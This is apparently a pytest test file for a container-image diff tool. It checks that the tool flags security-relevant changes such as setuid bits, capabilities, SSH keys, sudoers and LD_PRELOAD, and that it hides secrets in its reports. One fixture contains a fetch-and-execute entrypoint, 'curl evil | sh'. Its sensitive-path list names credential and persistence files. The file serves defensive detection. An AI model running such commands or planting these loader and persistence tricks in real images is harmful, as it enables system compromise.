"""What a reviewer must see first: which rules a change meets, how grave it is, and how a flood of it is shown."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from shutil import rmtree
from typing import Any

import pytest
from support.images import AnyEntry, Image, entry, image, layer_tar, pretty, write_layout
from support.report import report_of

from ocitool.layers.entry import Kind

Run = Callable[..., Any]
Pair = Callable[..., tuple[Path, Path]]
CAP = ((b"security.capability", b"\1"),)
OTHER = ((b"security.capability", b"\2"),)
ACL = ((b"system.posix_acl_access", b"\2"),)


@pytest.fixture
def pair(tmp_path: Path) -> Pair:
    """Two layouts of images, each given by its layers' entries or made already."""

    def make(*both: Any) -> tuple[Path, Path]:
        made = [one if isinstance(one, Image) else image([layer_tar(entries) for entries in one]) for one in both]
        return write_layout(tmp_path / "a", [made[0]]), write_layout(tmp_path / "b", [made[1]])

    return make


def configured(settings: dict[str, Any], *layers: list[AnyEntry]) -> Image:
    tars = [layer_tar(entries) for entries in layers or ([("k", b"")],)]
    fields = json.loads(image(tars).config)
    return image(tars, config=pretty(fields | {"config": settings}))


def found(ocitool: Run, a: Path, b: Path, *words: str) -> list[Any]:
    return list(report_of(ocitool("diff", "--format", "json", *words, a, b), 0, 1)["notable"])


def su(content: bytes = b"1", *, mode: int = 0o4755, **fields: Any) -> AnyEntry:
    return entry("x", content, mode=mode, **fields)


STILL_THERE: dict[str, tuple[str, AnyEntry, AnyEntry, str]] = {
    "owner of setuid": ("setuid", su(uid=1000), su(), "setuid file whose owner changed from 1000:0 to 0:0"),
    "group of setuid": ("setuid", su(gid=5), su(gid=7), "setuid file whose owner changed from 0:5 to 0:7"),
    "user of setgid": ("setgid", su(mode=0o2755, uid=5), su(mode=0o2755), "setgid file whose owner changed from 5:0 to 0:0"),
    "user of both": ("setuid", su(mode=0o6755, uid=5), su(mode=0o6755), "setuid file whose owner changed from 5:0 to 0:0"),
    "owner of a capability": (
        "capability", su(mode=0o750, gid=5, xattrs=CAP), su(mode=0o750, gid=7, xattrs=CAP),
        "file with capabilities whose owner changed from 0:5 to 0:7",
    ),
    "group of setgid": ("setgid", su(mode=0o2755, gid=5), su(mode=0o2755), "setgid file whose owner changed from 0:5 to 0:0"),
    "mode of setuid": ("setuid", su(mode=0o4700), su(), "setuid file whose mode changed from 4700 to 4755"),
    "kind of setuid": ("setuid", entry("x", "link:y"), su(), "new setuid file, owner 0:0"),
    "content of setuid": ("setuid-content", su(), su(b"2"), "the content of a setuid or setgid file changed"),
    "content of a capability": (
        "capability", su(mode=0o755, xattrs=CAP), su(b"2", mode=0o755, xattrs=CAP),
        "the content of a file with capabilities changed",
    ),
    "value of a capability": (
        "capability", su(mode=0o755, xattrs=CAP), su(mode=0o755, xattrs=OTHER), "file capability changed",
    ),
    "mode of a capability": (
        "capability", su(mode=0o700, xattrs=CAP), su(mode=0o755, xattrs=CAP), "more may run a file with capabilities",
    ),
    "access control list": ("acl", su(mode=0o644), su(mode=0o644, xattrs=ACL), "new access control list"),
    "number of a device": (
        "device", entry("x", kind=Kind.CHAR, device=(1, 3)), entry("x", kind=Kind.CHAR, device=(1, 1)),
        "new character device 1:1",
    ),
    "mode of a device": (
        "device", entry("x", kind=Kind.CHAR, device=(1, 3), mode=0o600), entry("x", kind=Kind.CHAR, device=(1, 3), mode=0o666),
        "character device 1:3 whose mode changed from 0600 to 0666",
    ),
    "sticky bit": (
        "world-writable", entry("x", None, mode=0o1777), entry("x", None, mode=0o777),
        "directory that everybody may write lost its sticky bit",
    ),
    "setgid of a directory": (
        "setgid", entry("x", None, mode=0o755), entry("x", None, mode=0o2755),
        "new setgid directory: what is made in it belongs to group 0",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", STILL_THERE)
def test_what_is_still_there_is_notable_when_it_means_something_else(ocitool: Run, pair: Pair, case: str) -> None:
    rule, before, after, message = STILL_THERE[case]
    a, b = pair([[("k", b""), before]], [[("k", b""), after]])
    assert [(rule, "/x", message)] == [(one["rule"], one["path"], one["message"]) for one in found(ocitool, a, b)]
    assert 1 == ocitool("diff", "--fail-on", "notable", a, b).code


def test_a_new_name_of_a_setuid_file_is_notable(ocitool: Run, pair: Pair) -> None:
    a, b = pair([[su()]], [[su(), entry("y", kind=Kind.HARDLINK, link=b"x")]])
    assert [("setuid", "/y")] == [(one["rule"], one["path"]) for one in found(ocitool, a, b)]


SENSITIVE = {
    "root/.ssh/id_rsa": "secret-file", "app/.env": "secret-file", "app/tls.key": "secret-file", "root/.npmrc": "secret-file",
    "app/.git/config": "secret-file", "etc/ld.so.preload": "loader", "usr/lib/python3/sitecustomize.py": "loader",
    "etc/cron.d/x": "cron", "etc/crontab": "cron", "root/.ssh/authorized_keys": "accounts", "etc/passwd": "accounts",
    "etc/sudoers.d/app": "accounts", "usr/local/share/ca-certificates/x.crt": "trust",
}  # fmt: skip


@pytest.mark.parametrize("path", SENSITIVE)
def test_files_that_open_doors_are_notable_new_and_changed(ocitool: Run, pair: Pair, path: str) -> None:
    for before in ([], [(path, b"1")]):
        a, b = pair([[("k", b""), *before]], [[("k", b""), (path, b"22")]])
        assert [SENSITIVE[path]] == [one["rule"] for one in found(ocitool, a, b)]
        assert 1 == ocitool("diff", "--fail-on", "notable", a, b).code
        for folder in (a, b):
            rmtree(folder)


@pytest.mark.parametrize("path", ["etc/motd", "app/main.py", "etc/ssl/certs/x.pem", "app/key.pub", "app/.env.example", "x.git"])
def test_ordinary_files_are_not_notable(ocitool: Run, pair: Pair, path: str) -> None:
    a, b = pair([[("k", b"")]], [[("k", b""), (path, b"1")]])
    assert [] == found(ocitool, a, b)


def test_an_update_of_the_trusted_authorities_is_shown_and_fails_nothing(ocitool: Run, pair: Pair) -> None:
    path = "etc/ssl/certs/ca-certificates.crt"
    a, b = pair([[(path, b"1")]], [[(path, b"2")]])
    assert [("trust", "info")] == [(one["rule"], one["severity"]) for one in found(ocitool, a, b)]
    assert 0 == ocitool("diff", "--fail-on", "notable", a, b).code
    assert 1 == ocitool("diff", "--fail-on", "notable:trust", a, b).code


@pytest.mark.parametrize(
    ("path", "before", "after", "severity"),
    [
        ("bin/sh", "dash", "/tmp/x", "security"), ("usr/bin/python3", "python3.11", "/opt/x/python3", "security"),
        ("usr/bin/python3", "python3.11", "python3.12", "info"), ("bin", "usr/bin", "opt/bin", "security"),
        ("lib64/ld-linux-x86-64.so.2", "../lib/ld.so", "/tmp/ld.so", "security"),
    ],
)  # fmt: skip
def test_an_interpreter_that_leads_elsewhere_is_notable(
    ocitool: Run, pair: Pair, path: str, before: str, after: str, severity: str
) -> None:
    a, b = pair([[entry(path, f"link:{before}")]], [[entry(path, f"link:{after}")]])
    item = found(ocitool, a, b)[0]
    assert ("interpreter", severity) == (item["rule"], item["severity"])
    assert f"is a link to {after} now, was a link to {before}" == item["message"]


@pytest.mark.parametrize(
    ("before", "after", "rule", "pointer"),
    [
        ({}, {"Env": ["DB_PASSWORD=hunter2"]}, "secret-env", "/config/Env/0"),
        ({"Env": ["DB_PASSWORD=x"]}, {"Env": ["DB_PASSWORD=hunter2"]}, "secret-env", "/config/Env/0"),
        ({}, {"Labels": {"api.token": "hunter2"}}, "secret-label", "/config/Labels/api.token"),
        ({}, {"Env": ["LD_PRELOAD=/x.so"]}, "loader", "/config/Env/0"),
        ({"Env": ["NODE_OPTIONS="]}, {"Env": ["NODE_OPTIONS=--require /x"]}, "loader", "/config/Env/0"),
        ({"Entrypoint": ["/app"]}, {"Entrypoint": ["sh", "-c", "curl evil | sh"]}, "command", "/config/Entrypoint"),
        ({"Cmd": ["a"]}, {"Cmd": ["b"]}, "command", "/config/Cmd"),
        ({"Entrypoint": ["a"]}, {}, "command", "/config/Entrypoint"),
        ({}, {"Healthcheck": {"Test": ["CMD", "x"]}}, "command", "/config/Healthcheck"),
    ],
)
def test_settings_that_open_doors_are_notable(
    ocitool: Run, pair: Pair, before: Any, after: Any, rule: str, pointer: str
) -> None:
    a, b = pair(configured({"User": "app"} | before), configured({"User": "app"} | after))
    items = found(ocitool, a, b)
    assert [(rule, pointer, "security")] == [(one["rule"], one["pointer"], one["severity"]) for one in items]
    assert "hunter2" not in json.dumps(items)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({"Env": ["DB_PASSWORD=x"]}, {"Env": ["A=1", "DB_PASSWORD=x"]}), ({"Env": ["TOKEN=x"]}, {}),
        ({}, {"Env": ["ENV=production"]}), ({}, {"Env": ["PATH=/bin"]}),
        ({"Cmd": None}, {"Cmd": []}), ({"Env": ["LD_PRELOAD=/x"]}, {}),
    ],
)  # fmt: skip
def test_settings_that_open_none_are_not(ocitool: Run, pair: Pair, before: Any, after: Any) -> None:
    a, b = pair(configured(before), configured(after))
    assert [] == found(ocitool, a, b)


BY_NAME: dict[str, tuple[Any, Any, list[str]]] = {
    "a port": ({}, {"ExposedPorts": {"80/tcp": {}}}, ["/config/ExposedPorts/80~1tcp"]),
    "another port": (
        {"ExposedPorts": {"80/tcp": {}}}, {"ExposedPorts": {"81/tcp": {}}},
        ["/config/ExposedPorts/80~1tcp", "/config/ExposedPorts/81~1tcp"],
    ),
    "a volume": ({"Volumes": {"/a": {}}}, {}, ["/config/Volumes/~1a"]),
    "an empty label": ({}, {"Labels": {"x": ""}}, ["/config/Labels/x"]),
    "an empty variable": ({}, {"Env": ["DEBUG="]}, ["/config/Env/0"]),
    "a variable without a value": ({"Env": ["DEBUG"]}, {"Env": ["DEBUG="]}, ["/config/Env/0"]),
    "a variable before its namesake": ({"Env": ["A=1"]}, {"Env": ["A=2", "A=1"]}, ["/config/Env/1"]),
    "one namesake of several": ({"Env": ["A=1", "A=2", "A=3"]}, {"Env": ["A=2", "A=1", "A=3"]}, ["/config/Env/2"]),
}  # fmt: skip


@pytest.mark.parametrize("case", BY_NAME)
@pytest.mark.parametrize("words", [(), ("--semantic",)])
def test_what_is_there_by_its_name_differs(ocitool: Run, pair: Pair, case: str, words: tuple[str, ...]) -> None:
    before, after, pointers = BY_NAME[case]
    a, b = pair(configured(before), configured(after))
    report = report_of(ocitool("diff", "--format", "json", *words, a, b), 1)
    assert (False, pointers) == (report["identical"], [one["pointer"] for one in report["config"]])
    assert "no difference" not in ocitool("diff", *words, a, b).out


@pytest.mark.parametrize(
    ("before", "after"),
    [({}, {"ExposedPorts": {}}), ({}, {"Volumes": None}), ({}, {"StopSignal": ""}), ({}, {"Tty": False}), ({}, {"Env": []})],
)
def test_an_empty_field_is_semantically_the_same_as_none(ocitool: Run, pair: Pair, before: Any, after: Any) -> None:
    assert 0 == ocitool("diff", "--semantic", *pair(configured(before), configured(after))).code


@pytest.mark.parametrize("form", ["text", "json", "markdown"])
def test_a_token_in_the_name_of_a_setting_stands_in_no_report(ocitool: Run, pair: Pair, form: str) -> None:
    token = "ghp_" + "a1" * 18
    settings = {"Env": [token, token + "=1"], "ExposedPorts": {token: {}}, "Volumes": {f"/x?token={token}": {}}}
    a, b = pair(configured({}), configured(settings))
    words = ("--format", form)
    texts = [ocitool("diff", *words, a, b).out, ocitool("diff", *words, b, a).out]
    if form != "json":
        texts.append(ocitool("inspect", *words, b).out)  # its JSON is the document itself
    assert [False] * len(texts) == [token in text for text in texts]


def rebuilt(first: bytes, mtime: int) -> Image:
    return image([layer_tar([entry(f"app/{n}", first if n == "a" else b"same", mtime=mtime * 10**9)]) for n in "abc"])


def test_layers_that_cannot_be_shared_are_a_cost_that_fails_nothing(ocitool: Run, pair: Pair) -> None:
    a, b = pair(rebuilt(b"1", 1), rebuilt(b"2", 2))
    report = report_of(ocitool("diff", "--format", "json", "--fail-on", "notable", a, b), 0)
    assert {("unshared-layer", "info")} == {(one["rule"], one["severity"]) for one in report["notable"]}
    assert 1 == ocitool("diff", "--fail-on", "notable:setuid,unshared-layer", a, b).code


def test_a_build_with_the_same_files_meets_no_rule_beside_no_difference(ocitool: Run, pair: Pair) -> None:
    a, b = pair(rebuilt(b"1", 1), rebuilt(b"1", 2))
    result = ocitool("diff", "--semantic", "--fail-on", "notable", a, b)
    assert (0, True) == (result.code, "no difference" in result.out)


@pytest.mark.parametrize("name", ["app-v1.tar", "app-v2.tar", "whiteouts.tar", "hardlinks.tar"])
def test_a_squashed_image_is_semantically_the_same(ocitool: Run, testdata: Path, tmp_path: Path, name: str) -> None:
    assert 0 == ocitool("squash", testdata / name, tmp_path / "squashed.tar").code
    assert 0 == ocitool("diff", "--semantic", testdata / name, tmp_path / "squashed.tar").code


def test_unknown_names_of_rules_are_refused(ocitool: Run, pair: Pair) -> None:
    a, b = pair([[("a", b"1")]], [[("a", b"2")]])
    for rule in ("notable:", "notable:everything", "notable:setuid,", "notable:setuid secret"):
        assert 2 == ocitool("diff", "--fail-on", rule, a, b).code, rule


def test_a_directory_that_a_layer_only_implies_comes_from_that_layer(ocitool: Run, pair: Pair) -> None:
    a, b = pair([[("k", b"")]], [[("k", b"")], [("srv/app/x", b"1")], [("srv/app/y", b"1"), ("srv/z/y", b"1")]])
    report = report_of(ocitool("diff", "--format", "json", a, b), 1)
    expected = {"/srv": 1, "/srv/app": 1, "/srv/app/x": 1, "/srv/app/y": 2, "/srv/z": 2, "/srv/z/y": 2}
    assert expected == {one["path"]: one["layer"]["index"] for one in report["files"]}
    assert "gone" not in ocitool("diff", "--format", "markdown", a, b).out


def flood(*deleted: str) -> tuple[Any, Any]:
    files = [(f"tmp/b/f{number}", b"k" * 1700) for number in range(300)]
    return [[("k", b"")]], [[("k", b"")], files, [(path, b"") for path in deleted]]


@pytest.mark.parametrize("whole", [True, False])
def test_what_one_step_deletes_is_one_row(ocitool: Run, pair: Pair, whole: bool) -> None:
    deleted = ["tmp/.wh.b"] if whole else [f"tmp/b/.wh.f{number}" for number in range(300)]
    a, b = pair(*flood(*deleted))
    for words in (("--stat",), ("--all",), ("--format", "markdown")):
        lines = [line for line in ocitool("diff", *words, a, b).out.splitlines() if "deleted-still-ships" in line]
        assert 1 == len(lines)
        for part in ("/tmp/b/", "layer 2", "300 files deleted, but their 510.0 kB still ship in layer 1"):
            assert part in lines[0]
    shown = [line for line in ocitool("diff", a, b).out.splitlines() if "deleted-still-ships" in line]
    assert (1, True) == (len(shown), "/tmp/b/" in shown[0] and "300 files deleted" in shown[0])
    assert 300 == len(found(ocitool, a, b))


def test_a_flood_of_any_rule_is_counted_in_text(ocitool: Run, pair: Pair) -> None:
    a, b = pair([[("k", b"")]], [[("k", b""), *(entry(f"d{number}/w", b"1", mode=0o666) for number in range(300))]])
    lines = [line for line in ocitool("diff", "--stat", a, b).out.splitlines() if "world-writable" in line]
    assert (16, "  security  world-writable: 285 more (--format json lists all)") == (len(lines), lines[-1])


def test_a_secret_is_never_lost_in_a_flood(ocitool: Run, pair: Pair) -> None:
    a, b = pair([[("k", b"")]], [[("k", b"")], [*flood()[1][1], ("tmp/b/id_rsa", b"K")], [("tmp/.wh.b", b"")]])
    assert "/tmp/b/id_rsa" in ocitool("diff", "--stat", a, b).out


@pytest.mark.parametrize(("path", "over"), [("etc/key.pem", b""), ("etc/key.pem", b"none"), ("etc/pw", b"")])
def test_a_secret_that_is_overwritten_still_ships(ocitool: Run, pair: Pair, path: str, over: bytes) -> None:
    a, b = pair([[("k", b"")]], [[("k", b"")], [(path, b"K" * 300)], [(path, over)]])
    items = [one for one in found(ocitool, a, b) if one["rule"] == "deleted-still-ships"]
    assert [("/" + path, 2, 1)] == [(one["path"], one["layer"]["index"], one["shippedBy"]["index"]) for one in items]
    assert "overwritten, but its 300 bytes still ship in layer 1" == items[0]["message"]
    assert 1 == ocitool("diff", "--fail-on", "notable", a, b).code
    assert [] == found(ocitool, b, b)


def test_an_ordinary_file_that_is_overwritten_is_not_notable(ocitool: Run, pair: Pair) -> None:
    a, b = pair([[("k", b"")]], [[("k", b"")], [("etc/conf", b"K" * 300)], [("etc/conf", b"J" * 300)]])
    assert [] == found(ocitool, a, b)


def test_the_largest_changes_count_what_is_replaced(ocitool: Run, pair: Pair) -> None:
    a, b = pair([[("big", b"a" * 3_000_000), ("small", b"1")]], [[("big", b"b" * 3_000_000), ("small", b"12")]])
    page = ocitool("diff", "--format", "markdown", a, b).out
    assert "| modified | `/big` | content 3.0 MB -> 3.0 MB | 3.0 MB replaced | 0 |" in page
    assert page.index("`/big`") < page.index("`/small`")


def test_a_file_that_is_stored_again_for_its_mode_is_a_large_change(ocitool: Run, pair: Pair) -> None:
    big = b"a" * 3_000_000
    a, b = pair([[("big", big)]], [[("big", big)], [entry("big", big, mode=0o600)]])
    page = ocitool("diff", "--format", "markdown", a, b).out
    assert "| metadata | `/big` | mode 0644 -> 0600 | 3.0 MB stored again | 1 |" in page


def test_the_report_of_indexes_names_both_references_and_digests(ocitool: Run, testdata: Path) -> None:
    reference = str(testdata / "multiarch") + ":latest"
    report = report_of(ocitool("diff", "--all-platforms", "--format", "json", reference, reference), 0)
    assert reference == report["before"]["reference"] == report["after"]["reference"]
    digest = ocitool("inspect", "--digest", reference).out.strip()
    assert digest == report["before"]["digest"] == report["after"]["digest"]
